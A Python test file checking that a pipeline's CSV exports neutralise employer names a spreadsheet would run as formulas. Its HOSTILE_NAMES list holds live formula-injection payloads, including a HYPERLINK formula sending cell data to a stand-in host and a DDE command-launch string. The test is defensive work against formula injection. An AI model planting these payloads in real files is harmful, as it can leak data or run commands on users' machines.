"""Issue 11, defect 4: employer names that a spreadsheet would run as formulas.

A landing whose employers carry hostile names goes through the real nightly flow; the
inspectors' work list must open in a spreadsheet as text, while Parquet keeps the exact names.
"""

import csv
from datetime import date

import pyarrow.parquet as pq

from cakupan.config import report_dir
from cakupan.flows.nightly import nightly

HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB =1+1",
    "\rCR =1+1",
]


def _rename_active_employers(path, names) -> dict[str, str]:
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    renamed = {}
    for row in rows:
        if len(renamed) == len(names):
            break
        if row["status"] == "AKTIF":
            row["name"] = names[len(renamed)]
            renamed[row["npp"]] = row["name"]
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return renamed


def test_formula_names_are_text_in_the_csv_and_exact_in_parquet(prefect_api, landing, pii_key, tmp_path):
    renamed = _rename_active_employers(landing / "employers_20250301.csv", HOSTILE_NAMES)
    warehouse = tmp_path / "w.duckdb"
    state = nightly(as_of=date(2025, 3, 12), landing=str(landing), warehouse=str(warehouse), return_state=True)
    assert state.is_completed(), state.message

    out = report_dir(warehouse)
    with open(out / "employer_compliance.csv", newline="", encoding="utf-8") as handle:
        csv_names = {row["npp"]: row["name"] for row in csv.DictReader(handle)}
    parquet_names = dict(zip(*pq.read_table(out / "employer_compliance.parquet", columns=["npp", "name"]).to_pydict().values()))

    assert {npp: parquet_names[npp] for npp in renamed} == renamed
    assert {npp: csv_names[npp] for npp in renamed} == {npp: "'" + name for npp, name in renamed.items()}
    # nothing else changed: ordinary names and the numbers stay as they are
    ordinary = [npp for npp in csv_names if npp not in renamed]
    assert ordinary and all(csv_names[npp] == parquet_names[npp] for npp in ordinary)
    for export in out.glob("*.csv"):
        with open(export, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                assert not [cell for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")], export
